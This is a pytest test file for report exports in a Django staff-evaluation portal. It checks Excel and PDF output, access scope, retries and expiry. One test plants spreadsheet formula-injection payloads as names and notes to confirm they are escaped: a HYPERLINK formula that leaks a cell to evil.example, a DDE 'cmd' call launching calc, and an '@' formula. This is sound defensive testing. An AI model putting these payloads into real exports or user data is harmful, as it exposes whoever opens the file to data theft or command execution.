"""Export jobs: every kind makes a file that opens, scope is enforced, a failure can be retried."""

import io
import os
import subprocess
import sys
import uuid
import zipfile
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from evaluations import assessment
from evaluations.models import (
    EntryStatus,
    Evaluation,
    EvaluationState,
    PlanItem,
    PlanStatus,
    WorkEntry,
)
from kpi_portal.celery import app
from kpi_portal.models import AuditEvent
from reports import exports
from reports.models import ExportKind, ExportStatus, ReportExport
from reports.tasks_exports import export_run
from tests.evaluations import conftest as evaluation_fixtures

pytestmark = pytest.mark.django_db

position_group = evaluation_fixtures.position_group
products = evaluation_fixtures.products
quota = evaluation_fixtures.quota
period = evaluation_fixtures.period

FULL = ["10", "10", "10"]
NATIONAL = "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"
MOTTO = "Độc lập - Tự do - Hạnh phúc"


@pytest.fixture(autouse=True)
def private_media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


def give_work(user, period, product, assigned, done, note=""):
    """A plan item and its approved work, written directly: these tests are about reports."""
    person = user.person
    item = PlanItem.objects.create(
        period=period,
        person=person,
        product=product,
        quantity=Decimal(assigned),
        coefficient=product.coefficient,
        due_date=period.end,
        status=PlanStatus.ASSIGNED,
        created_by=user,
    )
    WorkEntry.objects.create(
        period=period,
        person=person,
        unit=person.primary_assignment_on(period.start).unit,
        author_role="staff",
        product=product,
        plan_item=item,
        quantity=Decimal(done),
        approved_quantity=Decimal(done),
        coefficient=product.coefficient,
        completed_on=period.start + timedelta(days=3),
        status=EntryStatus.APPROVED,
        note=note,
    )


def evaluation_of(user, period):
    return Evaluation.objects.get(person__user=user, period=period)


@pytest.fixture
def decided(period, products, quota, staff_a, staff_a2, head_a, head_agency, units):
    """March 2026 of Sở Thử nghiệm decided and published: staff_a excellent, staff_a2 good."""
    assessment.evaluations_open(period=period)
    give_work(staff_a, period, products["VB"], "2", "2", note="Đúng hạn")
    give_work(staff_a2, period, products["VB"], "5", "3")
    for user in (staff_a, staff_a2):
        evaluation = assessment.evaluation_self_assess(
            by=user,
            evaluation=evaluation_of(user, period),
            general=FULL,
            notes=["", "", ""],
            comment="Hoàn thành đầy đủ nhiệm vụ được giao.",
        )
        assessment.evaluation_head_assess(by=head_a, evaluation=evaluation, general=FULL)
    others = Evaluation.objects.filter(period=period, deciding_unit=units["T-SO"])
    others = others.exclude(person__user__in=[staff_a, staff_a2])
    # Five "tốt" people in the group allow one "xuất sắc" under the quota.
    for evaluation in others.order_by("pk")[:4]:
        give_work(evaluation.person.user, period, products["VB"], "5", "3")
    others.update(state=EvaluationState.HEAD_ASSESSED, head_general=FULL, organizing=1)
    assessment.evaluations_decide(
        by=head_agency,
        deciding_unit=units["T-SO"],
        period=period,
        decision_number="15/QĐ-STN",
        decision_date=date(2026, 4, 2),
    )
    assessment.evaluations_publish(by=head_agency, deciding_unit=units["T-SO"], period=period)
    return period


@pytest.fixture
def run(django_capture_on_commit_callbacks):
    """Request an export and let its (eager) task run once the request commits."""

    def request(by, kind, **params):
        with django_capture_on_commit_callbacks(execute=True):
            export = exports.export_request(by=by, kind=kind, params=params)
        export.refresh_from_db()
        return export

    return request


def workbook(export):
    with export.file.open("rb") as handle:
        return load_workbook(io.BytesIO(handle.read()))


def header_row(sheet, first_header="STT") -> int:
    for row in sheet.iter_rows(min_col=1, max_col=1):
        if row[0].value == first_header:
            return row[0].row
    raise AssertionError("no header row")


def rows(sheet) -> list[dict]:
    header = header_row(sheet)
    headers = [cell.value for cell in sheet[header]]
    return [
        dict(zip(headers, row, strict=False))
        for row in sheet.iter_rows(min_row=header + 1, values_only=True)
        if any(value is not None for value in row)
    ]


def row_of(sheet, *values) -> dict:
    """The first data row holding every one of `values`."""
    for row in rows(sheet):
        if all(value in row.values() for value in values):
            return row
    raise AssertionError(f"{values} not in the sheet")


def pdf_text(data: bytes) -> tuple[int, str]:
    reader = PdfReader(io.BytesIO(data))
    return len(reader.pages), "\n".join(page.extract_text() for page in reader.pages)


def file_bytes(export) -> bytes:
    with export.file.open("rb") as handle:
        return handle.read()


# ---- Excel ------------------------------------------------------------------------------------


def test_the_unit_summary_opens_with_a_frozen_vietnamese_header_and_each_persons_result(
    decided, org_dept_viewer, units, run
):
    export = run(org_dept_viewer, ExportKind.UNIT_SUMMARY, unit=units["T-SO"].pk, period=decided.pk)
    assert (export.status, export.progress, export.format) == (ExportStatus.DONE, 100, "xlsx")
    assert export.filename.endswith(".xlsx") and export.file.name.startswith("exports/")
    sheet = workbook(export)["Biểu tổng hợp"]
    header = header_row(sheet)
    assert sheet.freeze_panes == f"A{header + 1}"
    assert [c.value for c in sheet[header]][:4] == ["STT", "Họ và tên", "Chức vụ", "Đơn vị"]
    assert sheet["A1"].value.startswith("BIỂU TỔNG HỢP KẾT QUẢ ĐÁNH GIÁ, XẾP LOẠI")
    mine = row_of(sheet, "Nguyễn Văn staff_a")
    staff_a = Evaluation.objects.get(period=decided, person__full_name="Nguyễn Văn staff_a")
    assert mine["Đơn vị"] == "Phòng A"
    assert mine["Tổng điểm"] == float(staff_a.total)
    assert mine["Xếp loại được quyết định"] == "Hoàn thành xuất sắc nhiệm vụ"
    assert sheet.cell(row=header + 1, column=7).number_format == "#,##0.00"


def test_the_person_detail_has_a_row_per_task_line(decided, head_a, staff_a, run, units):
    export = run(head_a, ExportKind.PERSON_DETAIL, unit=units["T-A"].pk, period=decided.pk)
    sheet = workbook(export)["Chi tiết nhiệm vụ"]
    line = row_of(sheet, "Nguyễn Văn staff_a", "Dự thảo văn bản quy phạm pháp luật")
    assert (line["Hệ số quy đổi"], line["Số lượng hoàn thành"]) == (4, 2)
    assert line["Sản phẩm chuẩn hoàn thành"] == 8
    assert line["Xếp loại"] == "Hoàn thành xuất sắc nhiệm vụ"


def test_a_person_sees_their_decided_rating_in_an_export_only_once_it_is_published(
    decided, staff_a, head_a, run, units
):
    Evaluation.objects.filter(person=staff_a.person).update(state=EvaluationState.DECIDED)
    own = workbook(
        run(staff_a, ExportKind.PERSON_DETAIL, person=staff_a.person.pk, period=decided.pk)
    )
    head = workbook(
        run(head_a, ExportKind.PERSON_DETAIL, person=staff_a.person.pk, period=decided.pk)
    )
    assert row_of(own["Chi tiết nhiệm vụ"], "Nguyễn Văn staff_a")["Xếp loại"] == (
        "Hoàn thành xuất sắc nhiệm vụ (theo điểm)"
    )
    assert row_of(head["Chi tiết nhiệm vụ"], "Nguyễn Văn staff_a")["Xếp loại"] == (
        "Hoàn thành xuất sắc nhiệm vụ"
    )


def test_the_worklog_export_lists_the_entries_of_one_person(decided, staff_a, run):
    export = run(staff_a, ExportKind.WORKLOG, person=staff_a.person.pk, period=decided.pk)
    sheet = workbook(export)["Nhật ký công việc"]
    entry = row_of(sheet, "Dự thảo văn bản quy phạm pháp luật")
    assert (entry["Họ và tên"], entry["Ghi chú"], entry["Trạng thái"]) == (
        "Nguyễn Văn staff_a",
        "Đúng hạn",
        "Đã phê duyệt",
    )
    assert entry["Ngày hoàn thành"].date() == date(2026, 3, 4)
    assert entry["Sản phẩm chuẩn"] == 8
    assert len(rows(sheet)) == 1  # nobody else's entries


def test_the_province_quarter_table_counts_each_band_per_agency(decided, system_admin, run, units):
    export = run(
        system_admin, ExportKind.PROVINCE_QUARTER, unit=units["T-ROOT"].pk, year=2026, quarter=1
    )
    sheet = workbook(export)["Quý 1-2026"]
    assert "QUÝ I NĂM 2026" in sheet["A1"].value
    agency = row_of(sheet, "Sở Thử nghiệm")
    decided_count = Evaluation.objects.filter(deciding_unit=units["T-SO"], period=decided).count()
    assert (agency["Số lượt đánh giá"], agency["Đã có kết quả"]) == (decided_count, decided_count)
    assert agency["Hoàn thành xuất sắc nhiệm vụ"] == 1
    party = row_of(sheet, "Ban Tổ chức")
    assert (party["Số lượt đánh giá"], party["Đã có kết quả"]) == (2, 0)
    assert row_of(sheet, "Tổng cộng")["Số lượt đánh giá"] == decided_count + 2


def test_text_a_spreadsheet_would_run_comes_out_as_plain_text(decided, staff_a, head_a, run, units):
    person = staff_a.person
    person.full_name = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
    person.save()
    WorkEntry.objects.filter(person=person).update(note="+cmd|' /C calc'!A0")
    Evaluation.objects.filter(person=person).update(downgrade_reason="@SUM(1+1)")
    summary = workbook(
        run(head_a, ExportKind.UNIT_SUMMARY, unit=units["T-A"].pk, period=decided.pk)
    )
    log = workbook(run(head_a, ExportKind.WORKLOG, unit=units["T-A"].pk, period=decided.pk))
    name_cell = next(
        cell
        for row in summary["Biểu tổng hợp"].iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    )
    assert name_cell.data_type == "s"
    assert name_cell.value == "'" + person.full_name
    assert row_of(summary["Biểu tổng hợp"], name_cell.value)["Ghi chú"] == "'@SUM(1+1)"
    assert row_of(log["Nhật ký công việc"], name_cell.value)["Ghi chú"] == "'+cmd|' /C calc'!A0"


# ---- PDF --------------------------------------------------------------------------------------


def test_the_form01_pdf_is_one_page_with_the_national_heading_and_the_persons_name(
    decided, staff_a, run
):
    export = run(staff_a, ExportKind.FORM01_PDF, person=staff_a.person.pk, period=decided.pk)
    assert (export.status, export.format) == (ExportStatus.DONE, "pdf")
    pages, text = pdf_text(file_bytes(export))
    assert pages == 1
    for expected in (
        NATIONAL,
        MOTTO,
        "PHIẾU ĐÁNH GIÁ",
        "Nguyễn Văn staff_a",
        "Mẫu số 01",
        "SỞ THỬ NGHIỆM",
        "Dự thảo văn bản quy phạm pháp luật",
        "Hoàn thành xuất sắc nhiệm vụ",
        "Số 15/QĐ-STN ngày 02/04/2026",
        "NGƯỜI TỰ ĐÁNH GIÁ",
        "THỦ TRƯỞNG ĐƠN VỊ",
        "Trang 1/1",
    ):
        assert expected in text, expected


def test_form01_for_a_unit_is_a_zip_with_one_pdf_per_person(decided, head_a, run, units):
    export = run(head_a, ExportKind.FORM01_PDF, unit=units["T-A1"].pk, period=decided.pk)
    assert export.format == "zip"
    people = Evaluation.objects.filter(period=decided, unit__path__startswith=units["T-A1"].path)
    with zipfile.ZipFile(io.BytesIO(file_bytes(export))) as archive:
        names = archive.namelist()
        assert len(names) == people.count() == 1
        pages, text = pdf_text(archive.read(names[0]))
    assert pages == 1 and "Nguyễn Văn staff_a1a" in text


def test_the_unit_summary_pdf_has_the_administrative_layout(decided, head_agency, run, units):
    export = run(head_agency, ExportKind.UNIT_SUMMARY_PDF, unit=units["T-A"].pk, period=decided.pk)
    pages, text = pdf_text(file_bytes(export))
    assert pages == 1
    for expected in (
        NATIONAL,
        MOTTO,
        "UBND TỈNH QUẢNG NGÃI",
        "/BC-",
        "Quảng Ngãi, ngày",
        "BIỂU TỔNG HỢP KẾT QUẢ ĐÁNH GIÁ, XẾP LOẠI",
        "Nguyễn Văn staff_a2",
        "NGƯỜI LẬP BIỂU",
        "THỦ TRƯỞNG ĐƠN VỊ",
    ):
        assert expected in text, expected


def test_the_standing_committee_report_is_an_overview_and_one_annex_per_agency(
    decided, org_dept_viewer, run, units
):
    export = run(
        org_dept_viewer,
        ExportKind.STANDING_COMMITTEE_PDF,
        unit=units["T-CQ"].pk,
        year=2026,
        quarter=1,
    )
    assert (export.status, export.format) == (ExportStatus.DONE, "zip")
    with zipfile.ZipFile(io.BytesIO(file_bytes(export))) as archive:
        assert archive.namelist() == ["00-bao-cao-tong-hop.pdf", "001-phu-luc-T-SO.pdf"]
        overview_pages, overview = pdf_text(archive.read("00-bao-cao-tong-hop.pdf"))
        annex_pages, annex = pdf_text(archive.read("001-phu-luc-T-SO.pdf"))
    assert overview_pages == 2 and annex_pages == 1
    for expected in (
        NATIONAL,
        "BAN TỔ CHỨC",  # the requester's own body issues it
        "Kính gửi: Ban Thường vụ Tỉnh ủy Quảng Ngãi",
        "QUÝ I NĂM 2026",
        "Cơ cấu xếp loại trong quý",
        "Tỷ lệ hoàn thành xuất sắc nhiệm vụ qua các quý",
        "Sở Thử nghiệm",
        "Trang 2/2",
    ):
        assert expected in overview, expected
    assert "PHỤ LỤC" in annex and "Phòng A" in annex and "Ban Tổ chức" not in annex


# ---- scope, failure, retry, expiry -----------------------------------------------------------


def test_a_unit_outside_the_requesters_scope_is_refused_and_nothing_is_queued(
    decided, org_dept_viewer, head_a, staff_a, units, django_capture_on_commit_callbacks
):
    attempts = [
        (org_dept_viewer, {"unit": units["T-BTC"].pk}),  # their own unit, not one they oversee
        (head_a, {"unit": units["T-B"].pk}),
        (staff_a, {"unit": units["T-A"].pk}),  # colleagues' scores are not staff's to export
        (staff_a, {"person": head_a.person.pk}),
    ]
    for user, params in attempts:
        with django_capture_on_commit_callbacks() as callbacks, pytest.raises(PermissionDenied):
            exports.export_request(
                by=user, kind=ExportKind.PERSON_DETAIL, params={**params, "period": decided.pk}
            )
        assert callbacks == []
    assert not ReportExport.objects.exists()


def test_a_request_is_audited_and_expires_after_a_week(decided, head_a, units, run):
    export = run(head_a, ExportKind.UNIT_SUMMARY, unit=units["T-A"].pk, period=decided.pk)
    event = AuditEvent.objects.get(action="export.request", object_id=str(export.pk))
    assert (event.actor, event.unit_path) == (head_a, units["T-A"].path)
    assert event.changes["parameters"][1] == {"unit": units["T-A"].pk, "period": decided.pk}
    assert timedelta(days=6) < export.expires_at - timezone.now() <= timedelta(days=7)


def test_a_job_with_a_parameter_that_no_longer_resolves_fails_with_a_readable_error(
    decided, head_a, units
):
    export = ReportExport.objects.create(
        kind=ExportKind.UNIT_SUMMARY,
        format="xlsx",
        parameters={"unit": units["T-A"].pk, "period": 999_999},
        requested_by=head_a,
        expires_at=timezone.now() + timedelta(days=7),
    )
    assert export_run.delay(export.pk).get() == ExportStatus.FAILED
    export.refresh_from_db()
    assert export.error == "Không tìm thấy kỳ đánh giá cần xuất báo cáo."
    assert (export.attempts, bool(export.file), export.finished_at is not None) == (1, False, True)


def test_a_job_whose_requester_no_longer_oversees_the_unit_fails_without_a_file(
    period, head_b, units
):
    export = ReportExport.objects.create(
        kind=ExportKind.UNIT_SUMMARY,
        format="xlsx",
        parameters={"unit": units["T-A"].pk, "period": period.pk},
        requested_by=head_b,  # as if moved from Phòng A to Phòng B after asking
        expires_at=timezone.now() + timedelta(days=7),
    )
    export_run.delay(export.pk)
    export.refresh_from_db()
    assert (export.status, export.error) == (
        ExportStatus.FAILED,
        "Bạn không được xuất báo cáo của đơn vị này.",
    )
    assert not export.file


def test_a_failed_job_can_be_retried_once_its_cause_is_gone(
    period, products, staff_a, staff_a2, run, django_capture_on_commit_callbacks
):
    export = run(staff_a, ExportKind.FORM01_PDF, person=staff_a.person.pk, period=period.pk)
    assert export.status == ExportStatus.FAILED
    assert "chưa có phiếu đánh giá kỳ Tháng 03/2026" in export.error
    with pytest.raises(PermissionDenied):
        exports.export_retry(by=staff_a2, export=export)
    assessment.evaluations_open(period=period)
    with django_capture_on_commit_callbacks(execute=True):
        exports.export_retry(by=staff_a, export=export)
    export.refresh_from_db()
    assert (export.status, export.attempts, export.error) == (ExportStatus.DONE, 2, "")
    event = AuditEvent.objects.get(action="export.retry", object_id=str(export.pk))
    assert "chưa có phiếu đánh giá" in event.reason


def test_a_finished_job_is_not_built_again(decided, head_a, units, run):
    export = run(head_a, ExportKind.UNIT_SUMMARY, unit=units["T-A"].pk, period=decided.pk)
    name = export.file.name
    export_run.delay(export.pk)
    export.refresh_from_db()
    assert (export.attempts, export.file.name) == (1, name)


def test_the_nightly_purge_deletes_expired_files_and_their_jobs(decided, head_a, units, run):
    old = run(head_a, ExportKind.UNIT_SUMMARY, unit=units["T-A"].pk, period=decided.pk)
    fresh = run(head_a, ExportKind.UNIT_SUMMARY, unit=units["T-A"].pk, period=decided.pk)
    path = Path(old.file.path)
    ReportExport.objects.filter(pk=old.pk).update(expires_at=timezone.now() - timedelta(hours=1))
    assert exports.exports_purge() == 1
    assert not path.exists() and not ReportExport.objects.filter(pk=old.pk).exists()
    assert Path(fresh.file.path).exists()


# ---- a real worker --------------------------------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]
BROKER = "redis://127.0.0.1:6379/14"


@pytest.fixture
def exports_worker(transactional_db, private_media):
    """A Celery worker on Redis, reading the test database and writing the test media folder."""
    queue = f"test-exports-{uuid.uuid4().hex[:8]}"
    db = connection.settings_dict
    env = {
        **os.environ,
        "DJANGO_SETTINGS_MODULE": "kpi_portal.settings.test",
        "CELERY_BROKER_URL": BROKER,
        "DATABASE_URL": f"postgres://{db['USER']}:{db['PASSWORD']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
        "MEDIA_ROOT": str(private_media),
    }
    process = subprocess.Popen(
        [
            *(sys.executable, "-m", "celery", "-A", "kpi_portal", "worker", "--pool=solo"),
            *("-Q", queue, "--without-gossip", "--without-mingle", "-l", "warning"),
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    saved = app.conf.task_always_eager, app.conf.broker_url, app.conf.result_backend
    app.conf.task_always_eager = False
    app.conf.broker_url = app.conf.result_backend = BROKER
    try:
        yield queue
    finally:
        app.conf.task_always_eager, app.conf.broker_url, app.conf.result_backend = saved
        process.terminate()
        try:
            process.wait(timeout=20)
        except subprocess.TimeoutExpired:
            process.kill()


@pytest.mark.services
def test_an_export_job_round_trips_through_redis_and_a_worker(exports_worker, units):
    from orgunits.models import User

    export = ReportExport.objects.create(
        kind=ExportKind.PROVINCE_QUARTER,
        format="xlsx",
        parameters={"unit": units["T-A"].pk, "year": 2026, "quarter": 1},
        requested_by=User.objects.get(username="head_a"),
        expires_at=timezone.now() + timedelta(days=7),
    )
    assert export_run.apply_async((export.pk,), queue=exports_worker).get(timeout=90) == "done"
    export.refresh_from_db()
    assert export.status == ExportStatus.DONE
    assert workbook(export)["Quý 1-2026"]["A1"].value.startswith("BIỂU TỔNG HỢP")
